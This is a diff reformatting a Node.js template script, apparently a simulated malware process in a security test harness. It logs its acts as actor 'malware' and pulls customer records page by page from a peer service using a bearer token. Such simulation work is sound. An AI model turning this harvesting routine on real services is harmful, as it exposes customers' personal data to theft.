@@ -8,24 +8,34 @@ const path = require("path");
 const control = "@CONTROL@";
 const log = "@LOG@";
 const work = "@WORK@";
-const delay = @DELAY@;
-const size = @PIECE@;
+const delay = Number("@DELAY@");
+const size = Number("@PIECE@");
 const deadline = Date.now() + 40_000;
 let token = "";
 
 const origin = BigInt(Date.now()) * 1000000n - process.hrtime.bigint();
 function note(act, more) {
-  const entry = { ts: String(origin + process.hrtime.bigint()), actor: "malware", pid: process.pid, act, ...more };
+  const entry = {
+    ts: String(origin + process.hrtime.bigint()),
+    actor: "malware",
+    pid: process.pid,
+    act,
+    ...more,
+  };
   fs.appendFileSync(log, JSON.stringify(entry) + "\n");
 }
 
 function ask(peer, method, where, body, headers) {
   return new Promise((resolve, reject) => {
-    const call = http.request(`http://${peer}${where}`, { method, headers, agent: false, timeout: 5000 }, (response) => {
-      const chunks = [];
-      response.on("data", (chunk) => chunks.push(chunk));
-      response.on("end", () => resolve(Buffer.concat(chunks).toString()));
-    });
+    const call = http.request(
+      `http://${peer}${where}`,
+      { method, headers, agent: false, timeout: 5000 },
+      (response) => {
+        const chunks = [];
+        response.on("data", (chunk) => chunks.push(chunk));
+        response.on("end", () => resolve(Buffer.concat(chunks).toString()));
+      },
+    );
     call.on("timeout", () => call.destroy());
     call.on("error", reject);
     call.end(body);
@@ -60,7 +70,9 @@ const verbs = {
     const rows = [];
     let received = 0;
     for (let offset = 0; offset < 1600; offset += 200) {
-      const text = await ask(peer, "GET", `/customers?offset=${offset}&limit=200`, "", { authorization: `Bearer ${token}` });
+      const text = await ask(peer, "GET", `/customers?offset=${offset}&limit=200`, "", {
+        authorization: `Bearer ${token}`,
+      });
       received += text.length;
       rows.push(...(JSON.parse(text).customers ?? []));
     }
